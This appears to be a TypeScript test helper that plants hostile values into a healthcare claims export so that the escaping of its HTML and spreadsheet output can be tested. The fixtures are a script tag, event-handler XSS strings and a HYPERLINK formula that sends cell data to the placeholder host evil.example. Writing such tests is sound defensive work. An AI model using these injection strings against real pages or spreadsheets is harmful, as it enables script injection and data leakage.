import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { smallExport } from './cli.js';

/** A name that is a script, a formula and a link at once; an id that tries to leave an attribute. */
export const HTML_HOSTILE_NAME = '<script>window.__pwned=1</script>=HYPERLINK("http://evil.example/?"&A1,"klik")<img src=x onerror="window.__pwned=2">';
export const HTML_HOSTILE_ID = `"><svg onload='window.__pwned=3'>`;

/** The small export (test/support/cli.ts) with its flagged provider renamed to HTML_HOSTILE_ID and HTML_HOSTILE_NAME. */
export function htmlHostileExport(dir: string): string {
  smallExport(dir);
  const edit = (name: string, f: (text: string) => string) => writeFileSync(join(dir, name), f(readFileSync(join(dir, name), 'utf8')));
  const q = (s: string) => `"${s.replace(/"/g, '""')}"`;
  edit('zorgverleners.csv', (t) => t.replace('ZV-BUSY,Zorg Één,', `${q(HTML_HOSTILE_ID)},${q(HTML_HOSTILE_NAME)},`));
  edit('declaraties.csv', (t) => t.replaceAll(',ZV-BUSY,', `,${q(HTML_HOSTILE_ID)},`));
  return dir;
}
